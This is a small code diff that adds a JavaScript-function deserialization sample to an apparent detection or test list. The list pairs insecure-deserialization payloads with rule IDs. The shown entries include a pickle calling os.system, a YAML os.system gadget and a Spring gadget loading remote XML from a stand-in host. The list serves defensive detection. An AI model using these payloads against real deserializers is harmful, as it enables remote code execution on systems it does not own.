@@ -29,6 +29,7 @@ class _Gadget:
         ("gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "HG-DESER-002"),
         ("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "HG-DESER-003"),
         ("aced00057372", "HG-DESER-003"),
+        ('{"cb":{"__js_function":"function(){return 1}"}}', "HG-DESER-001"),
         ('["org.springframework.context.support.ClassPathXmlApplicationContext","http://x.example/a.xml"]',
          "HG-DESER-003"),
         ("!!python/object/apply:os.system ['id']", "HG-DESER-004"),
